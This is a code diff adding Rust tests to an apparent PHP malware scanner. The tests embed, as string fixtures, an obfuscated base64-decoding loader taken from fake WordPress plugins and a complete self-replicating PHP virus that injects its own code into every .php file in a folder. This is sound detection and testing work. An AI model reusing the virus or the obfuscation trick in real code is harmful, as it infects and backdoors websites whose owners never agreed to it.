@@ -1385,3 +1385,38 @@ pub(super) fn pseudo_random(mut seed: u64) -> impl FnMut(usize) -> usize {
         (seed >> 33) as usize % n
     }
 }
+
+#[test]
+fn a_name_kept_with_noise_through_it_is_found() {
+    // fresh101's fake plugins: the decoder's name and the code it decodes carry a noise
+    // character that `str_replace` takes out before use.
+    let noisy = "<?php\n/* Plugin Name: Beta Element HQ */\n$GLOBALS['n'] = ':';\n$d = \":b:ase6:4:_:decode\";\n\
+                 $m = 'a:rray_map';\n$parts = array(':cGx:1Z2:l:uUnV:sZXM=');\n\
+                 $f = str_replace($GLOBALS['n'], '', $d);\n$all = $m($f, $parts);\n";
+    assert!(found(noisy).contains(&Why::HiddenFunctionName), "{:?}", found(noisy));
+    let angled = "<?php $d = str_replace('<', '', \"ba<se6<4_de<code\"); $d($x);";
+    assert!(found(angled).contains(&Why::HiddenFunctionName), "{:?}", found(angled));
+    // Words with one separator, dates and short names are not noise.
+    for quiet in [
+        "<?php $a = 'e-mail'; $b = '2024-01-02'; $c = 'p:a:c:k'; $d = 'file-get-contents-note';",
+        // Regression: a path's part and a placeholder (OpenCart's `'/system/'`, phpMyAdmin's
+        // `'@HTTP_HOST@'`).
+        "<?php $p = DIR_APPLICATION . '/system/'; $v = array('@HTTP_HOST@' => $h);",
+    ] {
+        assert!(found(quiet).is_empty(), "{:?}", found(quiet));
+    }
+}
+
+#[test]
+fn a_script_copying_itself_into_every_php_file_is_found() {
+    // fresh101's proof-of-concept virus: its own code read, then written behind an open tag
+    // in front of each `*.php` of the folder.
+    let virus = "<?php\nfunction execute($virus) { foreach (glob('*.php') as $f) { $s = fopen($f, 'r'); \
+                 $i = fopen(\"$f.infected\", 'w'); $x = '<?php ' . $virus . ' ?>'; fputs($i, $x); \
+                 while ($c = fgets($s)) { fputs($i, $c); } fclose($s); fclose($i); rename(\"$f.infected\", $f); } }\n\
+                 $virus = file_get_contents(__FILE__);\nexecute($virus);\n";
+    assert!(found(virus).contains(&Why::InjectsHiddenCode), "{:?}", found(virus));
+    // A template copier reads a file of its own folder, not itself.
+    let copier = virus.replace("file_get_contents(__FILE__)", "file_get_contents(__DIR__ . '/tpl.php')");
+    assert!(!found(&copier).contains(&Why::InjectsHiddenCode), "{:?}", found(&copier));
+}
